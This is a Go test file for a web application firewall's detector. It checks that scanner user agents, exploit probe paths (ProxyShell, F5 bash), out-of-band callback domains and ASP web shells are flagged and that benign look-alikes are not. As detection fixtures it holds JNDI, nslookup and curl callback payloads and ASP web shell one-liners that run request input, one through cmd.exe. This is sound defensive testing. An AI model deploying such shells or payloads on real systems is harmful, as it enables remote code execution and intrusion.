package detect

import (
	"strings"
	"testing"

	"github.com/rampartwaf/rampart/internal/request"
)

func TestScanner(t *testing.T) {
	tests := []struct {
		name    string
		ua      string
		headers []request.Header
		want    bool
	}{
		{"sqlmap", "sqlmap/1.8.2#stable (https://sqlmap.org)", nil, true},
		{"nikto", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)", nil, true},
		{"nmap nse", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", nil, true},
		{"nuclei", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", nil, true},
		{"zgrab", "Mozilla/5.0 zgrab/0.x", nil, true},
		{"wpscan", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", nil, true},
		{"ffuf", "Fuzz Faster U Fool v2.1.0-dev", nil, true},
		{"gobuster", "gobuster/3.6", nil, true},
		{"masscan", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", nil, true},
		{"havij suffix", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1) Havij", nil, true},
		{"acunetix header", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", []request.Header{{Name: "Acunetix-Product", Value: "WVS/13"}}, true},
		{"x-scanner header", "Mozilla/5.0", []request.Header{{Name: "X-Scanner", Value: "Netsparker"}}, true},
		{"interactsh", "Mozilla/5.0 (compatible; Interactsh/1.0)", nil, true},
		{"l9explore", "l9explore/1.2.2", nil, true},
		{"joomscan", "OWASP JoomScan 0.0.7", nil, true},
		{"droopescan", "droopescan/1.45.1", nil, true},
		{"hello world botnet", "Hello, World", nil, true},
		{"hello world no comma", "hello world", nil, true},
		// benign
		{"chrome", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36", nil, false},
		{"curl", "curl/8.5.0", nil, false},
		{"python requests", "python-requests/2.31.0", nil, false},
		{"go client", "Go-http-client/1.1", nil, false},
		{"wget", "Wget/1.21.4", nil, false},
		{"urlgrabber", "urlgrabber/3.10 yum/3.4.3", nil, false},
		{"ecairn grabber", "mozilla/5.0 ecairn-grabber/1.0 (+http://ecairn.com/grabber)", nil, false},
		{"googlebot", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", nil, false},
		{"okhttp", "okhttp/4.12.0", nil, false},
		{"x-requested-with", "Mozilla/5.0", []request.Header{{Name: "X-Requested-With", Value: "XMLHttpRequest"}}, false},
		{"accept header", "Mozilla/5.0", []request.Header{{Name: "Accept-Language", Value: "en"}}, false},
		{"hello world app", "HelloWorldApp/1.0 (iPhone; iOS 17.4)", nil, false},
		{"hello world sentence", "Hello, World! client 2.0", nil, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := &request.Request{Method: "GET", URI: "/", UserAgent: tt.ua,
				Headers: append([]request.Header{{Name: "User-Agent", Value: tt.ua}}, tt.headers...)}
			checkScanner(r)
			if got := r.HasSignal(SCANNER); got != tt.want {
				t.Errorf("SCANNER = %v, want %v (signals %+v)", got, tt.want, r.Signals)
			}
		})
	}
}

func TestScannerRequest(t *testing.T) {
	q := func(n, v string) request.Param { return request.Param{Source: request.SourceQuery, Name: n, Value: v} }
	seg := func(i int, v string) request.Param {
		return request.Param{Source: request.SourcePath, Name: "path[" + string(rune('0'+i)) + "]", Value: v}
	}
	segs := func(path string) []request.Param {
		var ps []request.Param
		for i, s := range strings.Split(strings.Trim(path, "/"), "/") {
			ps = append(ps, seg(i, s))
		}
		return ps
	}
	tests := []struct {
		name, host, path string
		params           []request.Param
		want             bool
	}{
		{"acunetix marker", "shop.example", "/", []request.Param{q("acunetix_wvs_security_test", "1")}, true},
		{"acunetix missing file", "shop.example", "/acunetix-wvs-test-for-some-inexistent-file", segs("/acunetix-wvs-test-for-some-inexistent-file"), true},
		{"xdebug start", "shop.example", "/", []request.Param{q("XDEBUG_SESSION_START", "phpstorm")}, true},
		{"xdebug trigger form", "shop.example", "/index.php", []request.Param{{Source: request.SourceForm, Name: "XDEBUG_TRIGGER", Value: "1"}}, true},
		{"oast host", "c9abc.oast.fun", "/", nil, true},
		{"collaborator host with port", "x8k2.burpcollaborator.net:80", "/", nil, true},
		{"f5 bash", "bigip.example", "/mgmt/tm/util/bash", nil, true},
		{"f5 bash slash", "bigip.example", "/mgmt/tm/util/bash/", nil, true},
		{"proxyshell", "mail.example", "/autodiscover/autodiscover.json", []request.Param{
			q("@foo.com/mapi/nspi/?", ""), q("Email", "autodiscover/autodiscover.json?@foo.com")}, true},
		{"proxyshell email only", "mail.example", "/autodiscover/autodiscover.json", []request.Param{
			q("Email", "autodiscover/autodiscover.json?@foo.com")}, true},
		{"proxynotshell", "mail.example", "/autodiscover/autodiscover.json", []request.Param{
			q("a..foo.var/owa/", ""), q("Protocol", "XYZ"), q("FooProtocol", "Powershell")}, true},
		// Benign.
		{"xdebug cookie", "dev.example", "/", []request.Param{{Source: request.SourceCookie, Name: "XDEBUG_SESSION", Value: "PHPSTORM"}}, false},
		{"acunetix blog", "blog.example", "/acunetix-wvs-test-explained", segs("/acunetix-wvs-test-explained"), false},
		{"xdebug docs", "docs.example", "/xdebug/session_start.html", nil, false},
		{"plain host", "toast.example.com", "/", nil, false},
		{"f5 look-alike", "docs.example", "/mgmt/tm/util/bashrc", nil, false},
		{"outlook autodiscover", "mail.example", "/autodiscover/autodiscover.json", []request.Param{
			q("Email", "user@contoso.com"), q("Protocol", "AutodiscoverV1"), q("RedirectCount", "1")}, false},
		{"outlook autodiscover v1", "mail.example", "/autodiscover/autodiscover.json/v1.0/user@contoso.com", []request.Param{
			q("Protocol", "ActiveSync")}, false},
		{"powershell elsewhere", "app.example", "/search", []request.Param{q("q", "powershell autodiscover.json")}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := &request.Request{Method: "GET", URI: tt.path, Path: tt.path, Host: tt.host, UserAgent: "Mozilla/5.0",
				Params: tt.params}
			checkScanner(r)
			if got := r.HasSignal(SCANNER); got != tt.want {
				t.Errorf("SCANNER = %v, want %v (signals %+v)", got, tt.want, r.Signals)
			}
		})
	}
}

func TestOASTDomain(t *testing.T) {
	tests := []struct {
		v    string
		want bool
	}{
		{"http://x8k2.burpcollaborator.net/", true},
		{"bugbounty@interact.sh", true},
		{"c9abc.oast.fun", true},
		{"${jndi:ldap://abc.OAST.PRO/a}", true},
		{"; nslookup abc.dnslog.cn", true},
		{"curl http://a1b2.ceye.io/x", true},
		{"x.oastify.com:80", true},
		{"abc.oast.me.", true},
		{"<script src=//x.bxss.me></script>", true},
		{"http://d2p1.oast.online/?x=1", true},
		{"a-b.interactsh.com", true},
		// Benign.
		{"burpcollaborator.net is down again", false},
		{"see https://oast.fun for the docs", false},
		{"/bundles/toast.a29e78fa.js", false},
		{"the oast.site domain", false},
		{"x.oast.media.com", false},
		{"a.oast.fun.example.com", false},
		{"run ./interact.sh first", false},
		{"mail@example.com", false},
		{"https://webhook.site/3f2a", false},
		{"http://x.canarytokens.com/about", false},
		{"x.oast.funny.example", false},
		{"@@oast.fun", false},
	}
	for _, tt := range tests {
		frag, got := matchOASTValue(nil, tt.v, valueClasses(tt.v))
		if got != tt.want {
			t.Errorf("oastDomain(%q) = %v, want %v", tt.v, got, tt.want)
		}
		if got && !strings.Contains(tt.v, frag) {
			t.Errorf("fragment %q not in %q", frag, tt.v)
		}
	}
	// Through the dispatch, in a header.
	r := &request.Request{Params: []request.Param{{Source: request.SourceHeader, Name: "Referer", Value: "http://x8k2.burpcollaborator.net/"}}}
	Inspect(r)
	if !r.HasSignal(SCANNER) {
		t.Fatalf("SCANNER missed the Referer: %+v", r.Signals)
	}
}

// aspShells are ASP web shells matchASPShell promises to find.
var aspShells = []string{
	`<%eval request("pass")%>`, `<%execute(request("x"))%>`, `<% ExecuteGlobal Request("a") %>`,
	`<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>`,
	`<% System.Diagnostics.Process.Start("cmd.exe","/c "+Request["c"]); %>`,
}

// FuzzShellScannerValues checks the value checks of backdoor.go (ASP shells) and
// scanner.go (out-of-band callback domains) on arbitrary input:
//
//   - fragments are non-empty and part of the value;
//   - one of oastDomains after a token label and a '.' is found whatever benign text
//     comes before and after it, a space apart;
//   - each of aspShells is found whatever benign text comes before and after it;
//   - words of prose (wordAlphabet) never match.
func FuzzShellScannerValues(f *testing.F) {
	for _, s := range []string{"x.oast.fun", "a@interact.sh", "toast.js", "<%eval request(", "<% Process.Start(Request", "<%@ x %><%", "."} {
		f.Add(s, "", uint8(0))
	}
	for n := range 13 {
		f.Add("please call me back at noon", "thanks", uint8(n))
	}
	f.Fuzz(func(t *testing.T, v, suffix string, n uint8) {
		checks := []struct {
			family string
			m      func(*request.Param, string, byteClass) (string, bool)
		}{{SCANNER, matchOASTValue}, {BACKDOOR, matchASPShell}}
		for _, c := range checks {
			if frag, ok := c.m(nil, v, valueClasses(v)); ok {
				checkFragment(t, c.family, v, frag)
			}
		}
		before := benignText(v, benignAlphabet, 60) + " "
		after := " " + benignText(suffix, benignAlphabet, 60)
		label := "a" + benignText(suffix, "abcdefghijklmnopqrstuvwxyz0123456789-", 12)
		if w := before + label + "." + pick(oastDomains, n) + after; !valueMatches(matchOASTValue, w) {
			t.Fatalf("SCANNER missed the callback domain in %q", w)
		}
		if w := before + pick(aspShells, n) + after; !valueMatches(matchASPShell, w) {
			t.Fatalf("BACKDOOR missed the ASP shell in %q", w)
		}
		words := benignText(v+suffix, wordAlphabet, 200)
		for _, c := range checks {
			if frag, ok := c.m(nil, words, valueClasses(words)); ok {
				t.Fatalf("%s matched prose %q (fragment %q)", c.family, words, frag)
			}
		}
	})
}

// valueMatches reports whether a value check matches v.
func valueMatches(m func(*request.Param, string, byteClass) (string, bool), v string) bool {
	_, ok := m(nil, v, valueClasses(v))
	return ok
}
